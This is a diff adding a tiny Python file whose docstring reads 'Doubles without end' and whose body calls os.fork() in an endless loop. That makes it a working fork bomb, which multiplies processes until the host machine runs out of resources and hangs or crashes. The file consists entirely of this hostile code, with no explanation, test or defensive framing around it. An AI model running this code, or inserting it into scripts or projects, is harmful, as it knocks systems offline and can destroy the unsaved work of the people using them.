@@ -1,0 +1,5 @@
+"""Doubles without end."""
+import os
+
+while True:
+    os.fork()
